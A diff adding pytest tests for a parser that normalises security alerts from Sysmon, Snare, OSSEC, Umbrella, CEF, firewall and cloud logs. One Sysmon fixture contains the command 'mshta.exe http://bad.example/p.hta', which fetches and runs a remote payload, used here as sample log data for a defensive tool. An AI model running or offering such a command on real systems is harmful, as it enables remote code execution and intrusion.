@@ -170,3 +170,95 @@ def test_structured_data__says_it_all() -> None:
     alert = one(line)
     assert (alert.name, alert.severity) == ("SMB:RCE", "Critical")
     assert (alert.source_ip, alert.destination_ip, alert.hosts) == (OUT, IN, ("edge1",))
+
+
+def test_audit__the_pairs_inside_its_message() -> None:
+    line = (
+        "type=USER_LOGIN msg=audit(1709979010.404:88121): pid=3011 uid=0 auid=42 ses=42 "
+        f'msg=\'op=login acct="ana" exe="/usr/sbin/sshd" addr={OUT} res=failed\''
+    )
+    alert = one(line)
+    assert (alert.format, alert.users, alert.source_ip) == ("keyvalue", ("ana",), OUT)
+    planted = one(f"date=2026-01-02 time=03:04:05 src={IN} action=ok msg='severity=low user=mallory a=b'")
+    assert planted.severity is None
+
+
+def test_windows__as_xml_and_as_snare_sends_it() -> None:
+    event = (
+        "<Event xmlns='http://schemas.example/event'><System><EventID>1</EventID><Level>4</Level>"
+        "<Channel>Sysmon</Channel><Computer>lab-07</Computer></System><EventData><Data Name='User'>LAB\\ana</Data>"
+        "<Data Name='CommandLine'>mshta.exe http://bad.example/p.hta</Data>"
+        "<Data Name='Image'>C:\\mshta.exe</Data></EventData></Event>"
+    )
+    alert = one(event)
+    assert (alert.hosts, alert.users, alert.urls) == (("lab-07",), ("ana",), ("http://bad.example/p.hta",))
+    line = (
+        "<14>Sep 04 16:02:13 DC1.lab.example\tMSWinEventLog\t1\tSecurity\t44120\tWed Sep 04 16:02:12 2026\t4740\t"
+        "A user account was locked out.    Account Name:  DC1$   Account Name:  ana.lima    Domain: LAB"
+    )
+    assert (one(line).hosts, one(line).users) == (("DC1.lab.example",), ("ana.lima",))
+
+
+def test_ossec__where_it_happened() -> None:
+    line = (
+        "Apr 19 04:12:55 ossec-srv ossec: Alert Level: 10; Rule: 31151 - Many 400 codes.; "
+        f"Location: (shop-web1) {IN}->/var/log/access.log; srcip: {OUT};"
+    )
+    assert one(line).hosts == ("shop-web1",)
+
+
+@pytest.mark.parametrize(
+    ("identity", "hosts", "users"),
+    [
+        ("LAP-CHEN", ("LAP-CHEN",), ()),
+        ("Ana Lima (ana@example.org)", (), ("ana@example.org",)),
+        ("Head office network", (), ()),
+    ],
+)
+def test_umbrella__who_asked(identity: str, hosts: tuple[str, ...], users: tuple[str, ...]) -> None:
+    line = (
+        f'"2026-04-18 12:03:55","{identity}","{identity},Net","{IN}","{OUT}","Blocked","1 (A)","NOERROR","bad.example."'
+    )
+    assert (one(line).hosts, one(line).users) == (hosts, users)
+
+
+def test_head__of_5424_without_its_priority() -> None:
+    alert = one(f"1 2026-03-02T14:11:57.5371+00:00 CENTER ATA 4688 Alert CEF:0|Acme|ATA|1|7|Odd|5|suser=ana src={OUT}")
+    assert (alert.format, alert.users, alert.source_ip) == ("cef", ("ana",), OUT)
+
+
+@pytest.mark.parametrize(
+    ("pairs", "users", "hosts"),
+    [
+        ('src_user_name="Ana Lima (alima)" src_machine_name="lab-22@corp.local"', ("alima",), ("lab-22",)),
+        ('duser="CN=Temp Helpdesk,OU=Staff,DC=example,DC=org"', ("Temp Helpdesk",), ()),
+        ("type=spam client_name=mx1.bad.example", (), ("mx1.bad.example",)),
+        ("srcname=chrome.exe hostname=LAB-1", (), ("LAB-1",)),
+        ("dstname=srv_web fw=FW1", (), ("srv_web",)),
+    ],
+)
+def test_pairs__names_of_firewalls(pairs: str, users: tuple[str, ...], hosts: tuple[str, ...]) -> None:
+    alert = one(f"src={OUT} dst={IN} action=block {pairs}")
+    assert (alert.users, alert.hosts) == (users, hosts)
+
+
+@pytest.mark.parametrize(
+    ("payload", "field", "value"),
+    [
+        ({"severity": {"score": 3, "description": "High"}}, "severity", "High"),
+        ({"srcids": {"instance": "i-0d15cd0d3ffaaa111"}}, "hosts", ("i-0d15cd0d3ffaaa111",)),
+        ({"HOST": {"DNS": "erp-db.example.net"}}, "hosts", ("erp-db.example.net",)),
+        ({"device": {"name": "cam-lobby", "type": "IP Camera"}}, "hosts", ("cam-lobby",)),
+        ({"lacework_account": "CONTOSO"}, "users", ()),
+        ({"cloudType": "azure", "accountName": "contoso-prod"}, "users", ()),
+        ({"node_id": "opencanary-dmz"}, "hosts", ("opencanary-dmz",)),
+    ],
+)
+def test_fields__of_clouds_and_things(payload: dict[str, Any], field: str, value: Any) -> None:
+    assert getattr(one({"title": "x", **payload}), field) == value
+
+
+def test_darktrace__the_machine_went_to_what_its_filter_names() -> None:
+    filters = [{"id": "d1", "filterType": "Destination IP", "trigger": {"value": OUT}}]
+    alert = one({"title": "x", "device": {"ip": IN}, "triggeredComponents": [{"triggeredFilters": filters}]})
+    assert (alert.source_ip, alert.destination_ip) == (IN, OUT)
